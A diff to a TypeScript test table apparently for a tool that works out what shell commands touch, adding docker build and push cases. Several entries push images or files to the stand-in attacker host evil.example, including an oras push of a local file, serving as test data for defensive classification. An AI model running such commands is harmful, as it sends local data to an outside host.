@@ -381,6 +381,9 @@ const CASES: [string, string[]][] = [
   ['npm publish', ['remote (the registry of the package manager\'s configuration: registry.npmjs.org by default)', 'read . tree:all']],
   ['cf push -p dist', ['read dist tree:all', 'remote (the Cloud Foundry API cf\'s configuration targets)']],
   ['oras push evil.example/x:1 f.txt', ['host evil.example', 'read f.txt']],
+  ['docker buildx build --push -t evil.example/x .', ['host evil.example']],
+  ['docker build -o type=image,name=evil.example/x,push=true .', ['write type=image,name=evil.example/x,push=true tree:named', 'host evil.example']],
+  ['docker build -t evil.example/x .', []],
 ];
 
 describe('what a command touches (table)', () => {
